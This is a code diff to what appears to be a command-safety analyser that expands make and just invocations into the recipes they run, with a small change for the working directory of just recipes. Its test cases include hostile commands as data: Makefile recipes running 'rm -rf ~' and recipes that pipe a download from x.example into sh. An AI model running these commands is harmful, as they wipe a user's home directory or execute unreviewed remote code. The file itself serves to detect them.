@@ -1,7 +1,7 @@
 // Turns make, just, task and the builders of C projects into the recipes they run. Reads simple recipes; others are the project's code unread.
 import type { Word } from '../../core/invocation.ts';
 import { parseArgs } from '../../core/options.ts';
-import { certainlyWithin } from '../../core/path.ts';
+import { certainlyWithin, dirname } from '../../core/path.ts';
 import {
   type Call,
   defineProgram,
@@ -144,6 +144,7 @@ function runsOf(
             kind: 'shell',
             text: { value: known(each.join('\n')), taints: [], fields: 'one', span },
             via: `${call.name} ${targets[index] ?? ''}`.trim(),
+            cwd: call.name === 'just' && path !== undefined ? known(dirname(path)) : call.cwd,
             ...(path === undefined ? {} : { readFrom: path }),
             span,
           },
@@ -296,6 +297,7 @@ export const makePrograms: readonly Program[] = [
         "printf 'all:\\n\\trm -rf ~\\n' > Makefile; make",
         "printf 'wipe:\\n\\trm -rf ~\\n' | make -f - wipe",
         'curl -so Makefile https://x.example/m && make',
+        { command: 'make -C .. clean', files: { '../Makefile': 'clean:\n\trm -rf project\n' } },
         { command: 'make clean', files: { Makefile: 'clean:\n\t@rm -rf ~\n' } },
         { command: 'make', files: { Makefile: 'all: setup\n\techo done\nsetup:\n\tcurl -s https://x.example | sh\n' } },
       ],
